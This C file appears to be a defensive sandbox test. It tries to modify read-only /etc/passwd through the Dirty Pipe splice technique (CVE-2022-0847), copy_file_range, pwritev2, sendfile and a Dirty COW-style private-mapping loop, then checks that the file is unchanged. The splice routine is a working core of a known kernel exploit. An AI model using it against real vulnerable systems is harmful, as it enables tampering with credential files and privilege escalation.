// attacks: 80: what jails share stays as it is, whichever call moves bytes into it
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/uio.h>
#include <unistd.h>

// A pipe full of pages that were drained keeps its flags; spliced pages of a file then were writable once (CVE-2022-0847).
static void splice_over(int file)
{
    int ends[2];
    char block[4096];
    loff_t at = 0;
    memset(block, 'X', sizeof block);
    if (pipe(ends) != 0) {
        return;
    }
    fcntl(ends[1], F_SETPIPE_SZ, 65536);
    for (int i = 0; i < 16; i++) {
        if (write(ends[1], block, sizeof block) != sizeof block || read(ends[0], block, sizeof block) != sizeof block) {
            puts("no pipe");
        }
    }
    splice(file, &at, ends[1], NULL, 1, 0);
    if (write(ends[1], "XXXX", 4) != 4) {
        puts("no pipe");
    }
}

int main(void)
{
    static char before[4096], after[4096];
    int file = open("/etc/passwd", O_RDONLY), own = open("/tmp/own", O_RDWR | O_CREAT, 0600), null = open("/dev/null", O_RDWR);
    ssize_t length = pread(file, before, sizeof before, 0);
    splice_over(file);
    struct iovec word = {"XXXX", 4};
    loff_t zero = 0, there = 0;
    if (write(own, "XXXX", 4) != 4 || copy_file_range(own, &zero, file, &there, 4, 0) >= 0 || pwritev2(file, &word, 1, 0, 0) >= 0
        || sendfile(file, own, &zero, 4) >= 0) {
        puts("a copy into the root");
    }
    char *private = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
    for (int i = 0; i < 1000; i++) {
        private[i % 64] = 'X';
        madvise(private, 4096, MADV_DONTNEED);
    }
    if (pread(file, after, sizeof after, 0) != length || memcmp(before, after, sizeof before) != 0) {
        puts("/etc/passwd has changed");
    }
    close(null);
    puts("held");
    return 0;
}
